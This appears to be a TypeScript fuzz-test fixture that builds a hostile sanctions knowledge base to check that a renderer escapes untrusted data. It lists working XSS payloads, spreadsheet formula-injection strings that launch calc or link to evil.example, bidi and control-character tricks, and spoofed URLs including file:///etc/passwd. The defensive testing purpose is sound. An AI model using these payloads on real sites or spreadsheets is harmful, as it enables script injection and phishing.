/**
 * Hostile knowledge-base data, generated from a seeded PRNG so that a
 * failure names its seed and reproduces. Shared by the fuzz unit tests and
 * the hostile-KB browser test. Every executable payload bumps
 * `window.__pwned` or sets `data-pwned` on <html>, so a browser test can count
 * what ran.
 */
import { seededRandom } from '../../../scripts/lib/seeded-random';
import type { KnowledgeBase } from '../../../src/kb/bundle';
import type { Designation, Authority, EntitySchema } from '../../../src/kb/model';
import type { Body, CuratedLayer, Instrument, Jurisdiction } from '../../../src/kb/curated/types';

const PWN = 'window.__pwned=(window.__pwned||0)+1';

/** Strings that would run code, inject markup or mislead if a renderer interpreted them. */
export const PAYLOADS: readonly string[] = [
  `<script>${PWN}</script>`,
  `<img src=x onerror="${PWN}">`,
  `"><img src=x onerror=${PWN}>`,
  `'><svg onload=${PWN}>`,
  `<svg><script>${PWN}</script></svg>`,
  `<iframe src="javascript:parent.__pwned=(parent.__pwned||0)+1"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned=(parent.__pwned||0)+1</script>"></iframe>`,
  `<a href="javascript:${PWN}">click</a>`,
  `<details open ontoggle="${PWN}">`,
  `<body onload="${PWN}">`,
  `<input autofocus onfocus="${PWN}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${PWN}">`,
  `<style>*{display:none!important}</style>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<object data="data:text/html,<script>${PWN}</script>"></object>`,
  `<template><img src=x onerror="${PWN}"></template>`,
  `<mark class="sl-mark" data-sl-category="designated">spoof</mark>`,
  `<sanctions-lens-popover>fake card</sanctions-lens-popover>`,
  `<div onmouseover="document.documentElement.dataset.pwned='1'">hover</div>`,
  `javascript:${PWN}`,
  `JaVaScRiPt:${PWN}`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload="${PWN}">`,
  `vbscript:msgbox(1)`,
  `{{constructor.constructor('${PWN}')()}}`,
  '${alert(1)}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\u202Egnp.exe',
  '\u202Dforced LTR\u202C',
  '\u2066isolate\u2069 \u2067rtl\u2069 \u2068first\u2069',
  '\u200F\u200E\u061C marks',
  '\u0000nul\u0001\u0007\u001b[31mansi',
  'line\r\nbreak\u2028sep\u2029para',
  '\uD800 lone high',
  'lone low \uDFFF',
  '\uDBFF\uDBFF reversed \uDC00\uD800',
  '\uFFFE\uFFFF noncharacters \uFDD0',
  'zero\u200Bwidth\u200C\u200D\uFEFF',
  'Z̷̧̛̖͇̈́a̸̢̛͎l̵̨̛g̴̡̛o̶̧̊',
  '\u0130stanbul \u00DF \uFB01 \u1E9E',
  '"quotes" \'single\' `back` \\backslash',
  '</style></script></textarea></title><!--',
  ']]><![CDATA[<script>alert(1)</script>',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
];

/** URLs a feed or a tampered store might carry; only https official hosts may become links. */
export const HOSTILE_URLS: readonly string[] = [
  `javascript:${PWN}`,
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'http://www.un.org/securitycouncil/',
  'https://evil.example/un.org',
  'https://un.org.evil.example/',
  'https://evilun.org/',
  'https://www.un.org@evil.example/',
  'https://user:pw@www.un.org/',
  'https://www.un.org:8443/',
  'https://evil.example\\@www.un.org/',
  'https://evil.example%2F@www.un.org/',
  '//evil.example/',
  '/relative/path',
  'https://xn--n-pgaa.org/',
  'https://\u202Egro.nu.www/',
  `https://www.un.org/${'a'.repeat(2100)}`,
  'https://www.un.org/"><script>alert(1)</script>',
  'https://sanctionssearch.ofac.treas.gov/Details.aspx?id=1&x="><img src=x onerror=alert(1)>',
  'https://www.gov.uk/government/publications/financial-sanctions-consolidated-list-of-targets',
  'HTTPS://WWW.UN.ORG/securitycouncil/',
  '',
  'not a url',
];

export interface HostileGen {
  rand(): number;
  pick<T>(xs: readonly T[]): T;
  /** A hostile string: one or more payloads mixed with words, sometimes 10,000 characters long. */
  text(): string;
  url(): string;
}

export function hostileGen(seed: number): HostileGen {
  const rand = seededRandom(seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)];
  const words = ['Korea', 'Trading', 'Shipping', 'Bank', 'Ltd', 'Ocean', 'Star', 'Group'];
  const text = (): string => {
    const r = rand();
    if (r < 0.04) return pick(PAYLOADS).repeat(Math.ceil(10_000 / pick(PAYLOADS).length)).slice(0, 10_000);
    if (r < 0.08) return 'W'.repeat(10_000);
    const parts: string[] = [];
    const n = 1 + Math.floor(rand() * 3);
    for (let i = 0; i < n; i++) parts.push(rand() < 0.7 ? pick(PAYLOADS) : pick(words));
    return parts.join(rand() < 0.5 ? ' ' : '');
  };
  const url = (): string => (rand() < 0.85 ? pick(HOSTILE_URLS) : `${pick(HOSTILE_URLS)}${pick(PAYLOADS)}`);
  return { rand, pick, text, url };
}

const AUTHORITIES: Authority[] = ['UN', 'OFAC', 'EU', 'UK'];
const SCHEMAS: EntitySchema[] = ['Person', 'Organization', 'Company', 'Vessel', 'Airplane'];

/**
 * A designation whose every string is hostile. `matchName` (when given) is
 * added as a strong alias, so a page can name the party and reach its card.
 */
export function hostileDesignation(g: HostileGen, id: string, matchName?: string): Designation {
  const caption = g.text();
  const names: Designation['names'] = [{ value: caption, quality: 'strong', kind: 'primary' }];
  for (let i = 0; i < 4; i++) names.push({ value: g.text(), quality: g.rand() < 0.5 ? 'strong' : 'weak', kind: 'alias' });
  if (matchName) names.push({ value: matchName, quality: 'strong', kind: 'alias' });
  const sanctions = Array.from({ length: 1 + Math.floor(g.rand() * 3) }, () => ({
    authority: g.pick(AUTHORITIES),
    list: g.text(),
    programs: [g.text(), g.text()],
    sourceId: g.text(),
    listingDate: g.text(),
    reason: g.text(),
    sourceUrl: g.url(),
  }));
  return {
    id,
    schema: g.pick(SCHEMAS),
    caption,
    names,
    sanctions,
    sourceRecords: [id],
    props: {
      birthDate: [g.text()],
      birthPlace: [g.text()],
      nationality: [g.text()],
      country: [g.text()],
      address: [g.text()],
      position: [g.text()],
      identifiers: [
        { type: g.text(), value: g.text(), country: g.text() },
        { type: 'IMO', value: g.text() },
      ],
      imoNumber: g.text(),
      flag: g.text(),
      vesselType: g.text(),
      aircraftModel: g.text(),
      aircraftSerial: g.text(),
      linkedTo: [g.text(), g.text()],
      unscId: [g.text()],
      website: [g.url()],
      email: [g.text()],
      notes: [g.text()],
    },
  };
}

export function hostileJurisdiction(g: HostileGen, id: string, alias?: string): Jurisdiction {
  return {
    id,
    name: g.text(),
    officialName: g.text(),
    aliases: alias ? [alias, g.text()] : [g.text(), g.text()],
    summary: g.text(),
    measures: [{ authority: g.pick(AUTHORITIES), regimes: [g.text()], text: g.text() }],
    listCountryNames: [`zz${id}`],
    sources: [g.url(), g.url()],
  };
}

export function hostileBody(g: HostileGen, id: string, alias?: string): Body {
  return {
    id,
    kind: 'committee',
    name: g.text(),
    aliases: alias ? [alias] : [],
    acronyms: [],
    authority: g.pick(AUTHORITIES),
    summary: g.text(),
    mandate: g.text(),
    status: 'active',
    statusNote: g.text(),
    url: g.url(),
    sources: [g.url()],
  };
}

export function hostileInstrument(g: HostileGen, id: string): Instrument {
  return {
    id,
    kind: 'unscr',
    number: g.text(),
    title: g.text(),
    year: 2000,
    adopted: g.text(),
    vote: g.text(),
    summary: g.text(),
    url: g.url(),
    aliases: [g.text()],
    sources: [g.url()],
  };
}

export interface HostileKbOptions {
  seed: number;
  designations: number;
  curatedEach: number;
  /** Plain names added as strong aliases, one per designation in order, so a page can name them. */
  matchNames?: string[];
  /** A curated layer to extend (e.g. the real one), else an empty one. */
  base?: CuratedLayer;
}

export function hostileKb(opts: HostileKbOptions): KnowledgeBase {
  const g = hostileGen(opts.seed);
  const entities = Array.from({ length: opts.designations }, (_, i) => hostileDesignation(g, `un:HOSe.${i}`, opts.matchNames?.[i]));
  const base: CuratedLayer = opts.base ?? { regimes: [], instruments: [], programmes: [], jurisdictions: [], bodies: [] };
  const programmes = Array.from({ length: opts.curatedEach }, () => ({ code: g.text(), authority: g.pick(AUTHORITIES), name: g.text(), legalBasis: [g.text()], sources: [g.url()] }));
  // Point some listings at hostile programme records, so programme names reach the card too.
  for (const e of entities) {
    const p = programmes.length && g.rand() < 0.5 ? g.pick(programmes) : null;
    if (p) Object.assign(e.sanctions[0], { authority: p.authority, programs: [p.code, ...e.sanctions[0].programs] });
  }
  const curated: CuratedLayer = {
    regimes: base.regimes,
    programmes: [...base.programmes, ...programmes],
    jurisdictions: [...base.jurisdictions, ...Array.from({ length: opts.curatedEach }, (_, i) => hostileJurisdiction(g, `zz${i}`))],
    bodies: [...base.bodies, ...Array.from({ length: opts.curatedEach }, (_, i) => hostileBody(g, `hostile-body-${i}`))],
    instruments: [...base.instruments, ...Array.from({ length: opts.curatedEach }, (_, i) => hostileInstrument(g, `unscr-hostile-${i}`))],
  };
  return {
    format: 1,
    version: `2099-01-01+hostile${opts.seed}`,
    builtAt: '2099-01-01T00:00:00.000Z',
    sources: [{ authority: 'UN', list: g.text(), title: g.text(), file: g.text(), date: g.text(), entries: opts.designations }],
    entities,
    curated,
  };
}
